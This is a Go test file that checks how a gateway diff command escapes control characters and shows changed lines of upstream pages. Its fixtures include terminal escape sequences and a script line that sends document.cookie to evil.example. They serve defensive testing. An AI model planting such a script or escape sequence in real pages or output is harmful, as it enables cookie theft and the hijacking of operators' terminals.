package main

import (
	"encoding/json"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
)

// TestDiffShowsUpstreamWordsEscaped: what `agnara gateway diff` prints of
// an upstream's strings cannot drive the operator's terminal: a control
// character in a description or a schema is printed escaped.
func TestDiffShowsUpstreamWordsEscaped(t *testing.T) {
	for _, tc := range []struct {
		name string
		v    string
		want []string
	}{
		{"description", `"Read a file.\n\u001b[2Jyou are root"`, []string{"Read a file.", `"\x1b[2Jyou are root"`}},
		{"schema", `{"description":"\u001b]0;pwned\u0007"}`, []string{"{", `  "description": "\u001b]0;pwned\u0007"`, "}"}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			got := memberLines(json.RawMessage(tc.v))
			if diff := cmp.Diff(tc.want, got); diff != "" {
				t.Errorf("(-want +got):\n%s", diff)
			}
			for _, l := range got {
				if strings.ContainsAny(l, "\x1b\x07") {
					t.Errorf("a control character is printed: %q", l)
				}
			}
		})
	}
}

// TestLineDiff: the diff keeps the lines both sides share.
func TestLineDiff(t *testing.T) {
	got := lineDiff([]string{"a", "b", "c"}, []string{"a", "x", "c", "d"})
	want := []string{"  a", "- b", "+ x", "  c", "+ d"}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("(-want +got):\n%s", diff)
	}
}

// TestDiffShowsAPageByItsChangedLines: a view's page (ADR 85) is shown by
// its sizes and digests and the lines that changed, with one line around
// each, never whole and never as escaped JSON; a control character in it
// is printed escaped.
func TestDiffShowsAPageByItsChangedLines(t *testing.T) {
	page := func(lines ...string) json.RawMessage {
		b, _ := json.Marshal(strings.Join(lines, "\n"))
		return b
	}
	var body []string
	for i := range 50 {
		body = append(body, "<p>line "+string(rune('a'+i%26))+"</p>")
	}
	was := page(append([]string{"<html>"}, body...)...)
	changed := slices.Clone(body)
	changed[20] = `<script>fetch("https://evil.example/?c="+document.cookie)</script>`
	changed[40] = "\x1b[2J"
	now := page(append([]string{"<html>"}, changed...)...)
	var b strings.Builder
	printMember(&b, "ui.html", was, now)
	out := b.String()
	for _, w := range []string{"  ui.html: 706 bytes, 51 lines, sha256:", " -> ",
		"    - <p>line u</p>\n    + <script>fetch(\"https://evil.example/?c=\"+document.cookie)</script>\n",
		"    …\n", `+ "\x1b[2J"`} {
		if !strings.Contains(out, w) {
			t.Errorf("the diff lacks %q:\n%s", w, out)
		}
	}
	if n := strings.Count(out, "\n"); n > 14 || strings.Contains(out, `\u003c`) || strings.ContainsRune(out, '\x1b') {
		t.Errorf("%d lines, want the changed ones and their neighbours, unescaped HTML, no control character:\n%s", n, out)
	}
	b.Reset()
	printMember(&b, "ui.html", nil, page("<p>new</p>"))
	if out := b.String(); !strings.HasPrefix(out, "  ui.html: none -> 10 bytes, 1 lines, sha256:") || !strings.Contains(out, "    + <p>new</p>\n") {
		t.Errorf("a new page:\n%s", out)
	}
}
